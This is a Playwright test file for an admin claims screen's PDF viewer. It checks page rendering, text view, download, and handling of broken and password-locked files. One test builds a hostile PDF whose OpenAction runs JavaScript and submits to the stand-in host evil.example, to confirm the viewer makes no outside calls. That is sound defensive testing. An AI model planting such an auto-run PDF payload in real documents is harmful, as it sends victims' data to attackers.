import type { Locator } from '@playwright/test';
import type { Desk } from '../../../support/console/desk.ts';
import { claim, reportFound } from '../../../support/console/reports.ts';
import { expect, own, test } from '../../../support/console/test.ts';
import { receipt, type UploadFile } from '../../../support/evidence.ts';
import { pdf } from '../../../support/pdf.ts';
import type { Service } from '../../../support/service.ts';

/** Opens a claim that came with these files, and in its modal the first of them. */
const openProof = async (
  desk: Desk,
  service: Service,
  title: string,
  proof: UploadFile[],
): Promise<Locator> => {
  const claimId = await claim(service, await reportFound(service, title), 'Petra Paper', {}, proof);
  await desk.page.goto(`${service.url}/admin/claims?claim=${claimId}`);
  const name = proof[0]?.name ?? '';
  await desk.press(`View ${name}`);
  return desk.page.getByRole('dialog', { name });
};

/** How many pixels of a drawn page are not its paper. */
const inkOf = (page: Locator): Promise<number> =>
  page.evaluate((element) => {
    const canvas = element as HTMLCanvasElement;
    const { data } = canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height);
    return data.filter((value, index) => index % 4 === 0 && value < 128).length;
  });

const document = (name: string, buffer: Buffer): UploadFile => ({
  name,
  mimeType: 'application/pdf',
  buffer,
});

test('§2 Claim Requests: a PDF is shown in place, page by page, with its text and a way to save it', async ({
  desk,
  service,
}) => {
  const pages = ['Bought in Seville', 'Serial number 4711'];
  const viewer = await openProof(desk, service, own('Oboe'), [receipt('oboe.pdf', pages)]);
  const first = viewer.getByRole('img', { name: 'Page 1 of 2 of oboe.pdf, as a picture' });
  await expect(first).toBeVisible();
  expect(await inkOf(first)).toBeGreaterThan(100);
  await viewer.getByText('Text of this page').click();
  await expect(viewer.getByText('Bought in Seville')).toBeVisible();

  await desk.press('Next page', viewer);
  await expect(viewer.getByRole('status').getByText('Page 2 of 2')).toBeVisible();
  await expect(viewer.getByRole('img', { name: 'Page 2 of 2 of oboe.pdf, as a picture' })).toBeVisible();
  await expect(viewer.getByRole('button', { name: 'Next page' })).toBeFocused();
  await viewer.getByText('Text of this page').click();
  await expect(viewer.getByText('Serial number 4711')).toBeVisible();

  const saved = await desk.save(viewer.getByRole('link', { name: 'Download oboe.pdf' }));
  expect(saved.name).toBe('oboe.pdf');
});

test('Claim Requests: a PDF that runs, calls or opens something only shows its page', async ({
  desk,
  service,
}) => {
  const asked: string[] = [];
  desk.page.on('request', (request) => asked.push(request.url()));
  desk.page.on('dialog', (dialog) => asked.push(dialog.message()));
  const catalog = `/OpenAction << /S /JavaScript /JS (app.alert\\("boo"\\); this.submitForm\\("https://evil.example/"\\);) /Next << /S /URI /URI (https://evil.example/) >> >>`;
  const hostile = document('hostile.pdf', pdf({ pages: ['Only this'], catalog }));
  const viewer = await openProof(desk, service, own('Bassoon'), [hostile]);
  await expect(viewer.getByRole('img', { name: /^Page 1 of 1 of hostile\.pdf/ })).toBeVisible();
  expect(asked.filter((what) => !what.startsWith(service.url) && !what.startsWith('blob:'))).toEqual([]);
  expect(desk.page.context().pages()).toHaveLength(1);
});

test('Claim Requests: a PDF that is broken or locked says so, and the next file is a step away', async ({
  desk,
  service,
}) => {
  const key = `<${'5a'.repeat(32)}>`;
  const trailer = `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /O ${key} /U ${key} /P -4 >>`;
  const viewer = await openProof(desk, service, own('Piccolo'), [
    document('broken.pdf', Buffer.from(`%PDF-1.7\n${'no page here '.repeat(50)}\n%%EOF\n`)),
    document('locked.pdf', pdf({ pages: ['Secret'], trailer })),
  ]);
  await expect(viewer.getByText('This PDF cannot be shown here')).toBeVisible();
  await expect(viewer.getByRole('link', { name: 'Download broken.pdf' })).toBeVisible();
  await desk.press('Next', viewer);
  const locked = desk.page.getByRole('dialog', { name: 'locked.pdf' });
  await expect(locked.getByText('This PDF is locked with a password')).toBeVisible();
});
